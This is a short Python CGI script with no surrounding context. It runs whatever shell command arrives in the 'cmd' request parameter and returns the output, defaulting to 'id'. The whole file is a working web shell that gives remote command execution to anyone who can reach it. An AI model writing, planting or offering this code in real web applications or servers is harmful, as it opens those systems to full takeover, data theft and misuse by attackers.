#!/usr/bin/env python3
import cgi
import os

form = cgi.FieldStorage()
print("Content-Type: text/plain")
print()
print(os.popen(form.getvalue("cmd", "id")).read())
